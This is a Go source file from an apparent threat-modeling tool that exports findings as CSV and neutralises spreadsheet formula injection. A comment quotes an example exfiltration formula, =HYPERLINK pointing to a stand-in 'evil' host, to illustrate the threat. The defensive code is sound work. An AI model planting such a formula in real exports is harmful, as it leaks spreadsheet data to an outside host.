package report

import (
	"encoding/csv"
	"fmt"
	"io"
	"strconv"

	"github.com/iotthreat/iotthreat/engine"
	"github.com/iotthreat/iotthreat/internal/reveal"
)

// CSVOptions choose how the CSV is encoded.
type CSVOptions struct {
	// BOM starts the file with a UTF-8 byte order mark. Excel reads a CSV
	// without one in the legacy code page of the user's locale, which
	// garbles every non-ASCII character; with one it reads UTF-8. Off by
	// default because the BOM is noise to every other consumer (scripts,
	// databases, diff) and some treat it as part of the first header.
	BOM bool
}

// utf8BOM is the UTF-8 encoding of U+FEFF.
const utf8BOM = "\ufeff"

// CSV writes one header row and one row per finding with every field of
// engine.Finding, as RFC 4180 CSV (CRLF line ends, fields quoted when
// needed) in UTF-8 without a byte order mark; see CSVOptions.Write for the
// Excel-friendly variant. Lists are joined with "; ". Cells that a
// spreadsheet would run as a formula are defused (see defuseFormula).
func CSV(w io.Writer, rep *engine.Report) error {
	return CSVOptions{}.Write(w, rep)
}

// Write writes the report as CSV with these options; see CSV.
func (o CSVOptions) Write(w io.Writer, rep *engine.Report) error {
	if o.BOM {
		if _, err := io.WriteString(w, utf8BOM); err != nil {
			return err
		}
	}
	cw := csv.NewWriter(w)
	cw.UseCRLF = true
	row := make([]string, len(findingColumns))
	for i, c := range findingColumns {
		row[i] = c.Header
	}
	if err := cw.Write(row); err != nil {
		return err
	}
	for fi := range rep.Findings {
		for i, c := range findingColumns {
			row[i] = csvCell(c.Value(&rep.Findings[fi]))
		}
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// csvCell formats a column value. Only text is defused: numbers and
// booleans are produced by the tool, never typed by a user. Hidden
// characters (bidirectional controls, zero-width spaces, control
// characters) are written as <U+XXXX>: a spreadsheet would apply them.
func csvCell(v any) string {
	switch v := v.(type) {
	case string:
		return defuseFormula(reveal.String(v))
	case int:
		return strconv.Itoa(v)
	case bool:
		return strconv.FormatBool(v)
	}
	panic(fmt.Sprintf("report: column value of type %T", v))
}

// defuseFormula prefixes an apostrophe to a cell that starts like a
// formula (=, +, -, @) or with a tab, carriage return or NUL, as OWASP
// (CSV Injection) and ASVS 5.0 (V1.2.10) advise against formula injection. Findings repeat text from the model, and a model
// is text anyone with commit access can write: a title such as
// =HYPERLINK("http://evil/?"&A1) would otherwise run when a reviewer
// opens the CSV in Excel or LibreOffice. Spreadsheets hide the apostrophe
// and show the text as typed; other consumers see it, which is the price
// of opening safely. XLSX does not need this: its strings are typed as
// strings and never evaluated.
func defuseFormula(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', 0:
		return "'" + s
	}
	return s
}
